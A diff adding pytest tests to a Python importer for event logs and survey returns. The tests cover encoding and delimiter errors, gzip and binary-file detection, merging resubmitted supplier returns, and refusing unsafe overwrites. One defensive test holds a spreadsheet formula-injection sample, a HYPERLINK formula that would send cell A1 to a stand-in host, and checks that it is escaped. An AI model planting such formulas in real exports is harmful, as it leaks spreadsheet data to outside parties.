@@ -192,6 +192,52 @@ def test_not_a_workbook_is_a_clear_error(tmp_path):
         read_source(tmp_path / "fake.xlsx")
 
 
+def test_utf16_file_is_named_as_utf16_not_as_missing_columns():
+    with pytest.raises(ImporterError, match="surveys_utf16.csv: file is UTF-16; save it as UTF-8"):
+        read_source(FIXTURES / "surveys_utf16.csv")
+
+
+def test_utf16_without_byte_order_mark_is_named_as_utf16(tmp_path):
+    (tmp_path / "x.csv").write_bytes("a,b\n1,2\n".encode("utf-16-le"))
+    with pytest.raises(ImporterError, match="file is UTF-16"):
+        read_source(tmp_path / "x.csv")
+
+
+def test_a_mapping_that_says_utf16_reads_the_file():
+    src = read_source(FIXTURES / "surveys_utf16.csv", FileFormat(encoding="utf-16"))
+    assert src.frame.loc[0, "response_id"] == "EUC-2026-09-001"
+
+
+def test_semicolon_file_read_as_comma_names_the_delimiter():
+    with pytest.raises(ImporterError, match="file uses ';' as delimiter, not ','"):
+        read_source(FIXTURES / "surveys_semicolon.csv")
+
+
+def test_gzip_with_utf8_byte_order_mark_still_reads(tmp_path):
+    (tmp_path / "x.csv.gz").write_bytes(gzip.compress("\ufeffCase,When\nA,1\n".encode()))
+    assert read_source(tmp_path / "x.csv.gz").frame.columns.tolist() == ["Case", "When"]
+
+
+def test_truncated_gzip_is_a_clear_error(tmp_path):
+    whole = gzip.compress(("Case,When\n" + "A,2026-01-05 10:00\n" * 500).encode())
+    (tmp_path / "x.csv.gz").write_bytes(whole[: len(whole) // 2])
+    with pytest.raises(ImporterError, match="is it complete and not corrupted"):
+        read_source(tmp_path / "x.csv.gz")
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b"PK\x03\x04" + b"\x01" * 40, "is a zip file"),
+        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x01\x02", "holds binary data"),
+    ],
+)
+def test_binary_files_under_a_csv_name_are_named_as_not_csv(tmp_path, content, message):
+    (tmp_path / "x.csv").write_bytes(content)
+    with pytest.raises(ImporterError, match=message):
+        read_source(tmp_path / "x.csv")
+
+
 # ------------------------------------------------------------------ writing ---------------
 def test_write_import_then_add_a_return_keeps_tables_and_widens_the_window(tmp_path):
     bpi = import_eventlog(
@@ -217,3 +263,86 @@ def test_write_import_then_add_a_return_keeps_tables_and_widens_the_window(tmp_p
     tables = io.read_dataset(out)
     assert (len(tables["tickets"]), len(tables["surveys"])) == (4, 2)
     assert (out / "rejects.csv").exists() and (out / "import_summary_surveys.json").exists()
+
+
+def _surveys(name):
+    return import_returns(FIXTURES / name, "surveys")
+
+
+def test_a_return_merges_replacing_only_its_suppliers_periods(tmp_path):
+    out = tmp_path / "ds"
+    write_import(_surveys("surveys_base.csv"), out)
+    again = _surveys("surveys_euc_2026-09_resubmitted.csv")
+    write_import(again, out)
+    kept = io.read_table(out, "surveys").sort_values("response_id")
+    assert kept["response_id"].tolist() == ["EUC-2026-08-001", "EUC-2026-09-101", "NET-2026-09-001"]
+    summary = json.loads((out / "import_summary_surveys.json").read_text())
+    assert summary["replaced"] == [
+        {"table": "surveys", "supplier_id": "euc", "periods": ["2026-09"],
+         "rows_removed": 2, "rows_added": 1}
+    ]  # fmt: skip
+    assert (
+        "replaced surveys of euc for 2026-09: 2 row(s) removed, 1 added" in again.summary.to_text()
+    )
+
+
+def test_an_event_log_into_a_folder_with_a_dataset_is_refused_and_changes_nothing(tmp_path):
+    out = tmp_path / "ds"
+    write_import(_surveys("surveys_base.csv"), out)
+    before = {p.name: p.read_bytes() for p in out.iterdir()}
+    bpi = import_eventlog(
+        FIXTURES / "bpi2013_volvo_small.csv",
+        paths.PARAMS_DIR / "mappings" / "bpi2013_volvo_example.yaml",
+    )
+    with pytest.raises(ImporterError, match="already holds a dataset; pass --replace"):
+        write_import(bpi, out)
+    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
+
+
+def test_replace_swaps_in_a_folder_holding_only_the_new_import(tmp_path):
+    out = tmp_path / "ds"
+    write_import(_surveys("surveys_base.csv"), out)
+    bpi = import_eventlog(
+        FIXTURES / "bpi2013_volvo_small.csv",
+        paths.PARAMS_DIR / "mappings" / "bpi2013_volvo_example.yaml",
+    )
+    write_import(bpi, out, replace=True)
+    assert sorted(p.name for p in out.iterdir()) == [
+        "dataset.json", "import_summary.json", "rejects.csv", "ticket_events.parquet",
+        "tickets.parquet",
+    ]  # fmt: skip
+    assert io.read_dataset_info(out).window == (ts("2012-04-30 23:00"), ts("2012-08-31 23:00"))
+    assert [p.name for p in tmp_path.iterdir()] == ["ds"]
+
+
+def test_rejects_file_neutralises_spreadsheet_formulas(tmp_path):
+    out = tmp_path / "ds"
+    write_import(_surveys("surveys_formula_injection.csv"), out)
+    rejects = pd.read_csv(out / "rejects_surveys.csv", dtype="str", keep_default_na=False)
+    assert rejects["response_id"].tolist() == [
+        '\'=HYPERLINK("http://x.example/?"&A1)',
+        "EUC-2026-09-002",
+    ]
+    assert rejects["score"].tolist() == ["'@SUM(A1)", "'-2"]
+
+
+def test_a_return_merges_into_a_table_even_without_dataset_json(tmp_path):
+    out = tmp_path / "ds"
+    write_import(_surveys("surveys_base.csv"), out)
+    (out / "dataset.json").unlink()
+    write_import(_surveys("surveys_euc_2026-09_resubmitted.csv"), out)
+    assert len(io.read_table(out, "surveys")) == 3  # 4 - 2 euc Sept + 1 resubmitted
+
+
+def test_a_broken_table_to_merge_into_stops_the_import_and_is_kept(tmp_path):
+    out = tmp_path / "ds"
+    write_import(_surveys("surveys_base.csv"), out)
+    (out / "surveys.parquet").write_bytes(b"not parquet")
+    with pytest.raises(ImporterError, match=r"surveys.parquet: cannot be read .* another --out"):
+        write_import(_surveys("surveys_euc_2026-09_resubmitted.csv"), out)
+    assert (out / "surveys.parquet").read_bytes() == b"not parquet"
+
+
+def test_gzip_without_gz_in_its_name_reads(tmp_path):
+    (tmp_path / "x.csv").write_bytes(gzip.compress(b"Case,When\nA,1\n"))
+    assert read_source(tmp_path / "x.csv").frame.to_dict("records") == [{"Case": "A", "When": "1"}]
